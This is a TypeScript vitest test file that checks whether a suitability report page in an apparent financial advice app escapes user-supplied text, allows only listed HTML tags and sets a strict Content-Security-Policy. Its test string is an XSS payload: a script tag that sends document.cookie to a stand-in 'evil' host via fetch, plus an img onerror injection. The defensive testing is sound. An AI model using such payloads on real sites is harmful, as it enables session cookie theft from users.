import { expect, test } from 'vitest'
import type { SuitabilityInputs } from '../../gates/suitability/inputs.ts'
import { suitabilityReport } from '../../gates/suitability/report.ts'
import { suitabilityPage, suitabilityPageHeaders } from './suitability-page.ts'

const evil = '<script>fetch("//evil/"+document.cookie)</script>\'"><img src=x onerror=alert(1)>'
const inputs: SuitabilityInputs = {
  basis: 'own-order', ticketId: evil, madeAt: '2026-11-20T10:00:00.000Z', client: { personId: 'p', accountLabel: evil, actedFor: false },
  profile: {
    version: 1, effectiveOn: '2026-01-01', riskLevel: 'growth', horizonYears: 20, knowledge: 'informed', targets: [], exclusions: [evil], sustainability: 'none', benchmark: [],
    goals: [{ goalId: 'g', kind: 'other', label: evil, targetUsd: '1000.00', on: '2030-01-01', monthlyUsd: '0.00' }],
    answers: { horizonYears: 20, reserveMonths: 6, income: 'steady', shareOfWealth: 'half', reaction: 'hold', worstLoss: 0.3, aim: 'growth', lived: 'held', knowledge: 'informed', experienceYears: 8, sustainability: 'none' },
  },
  trade: { title: evil, legs: [], worstCaseUsd: '1.00', feesUsd: '0.00', taxUsd: null, tolerance: 0.005, priceSource: evil, priceAsOf: '2026-07-31' },
  impact: null, checks: [], rules: { policyVersion: 1, projection: null, reviewDays: 365, reviewOn: '2027-01-01', badYearLoss: 0.3 },
}

test.each([['a whole report', inputs], ['a report of what is missing', { ...inputs, profile: { ...inputs.profile!, goals: [], horizonYears: Number.NaN } }]])(
  'words of people are text on the page of %s, never markup', (_name, given) => {
    const page = suitabilityPage(suitabilityReport(given), evil)
    expect(page).toContain('&lt;script&gt;')
    expect(page).not.toMatch(/<script|<img|onerror=alert\(1\)>/)
    expect(page.match(/<(\w+)/g)!.every((tag) => ['<html', '<head', '<meta', '<title', '<style', '<body', '<main', '<h1', '<h2', '<p', '<code', '<section', '<ul', '<li', '<span', '<footer', '<a', '<input', '<label'].includes(tag))).toBe(true)
  })

test('nothing but its own style is let in', () => {
  expect(suitabilityPageHeaders['Content-Security-Policy']).toMatch(/^default-src 'none'; style-src 'sha256-[\w+/]+=*';/)
})
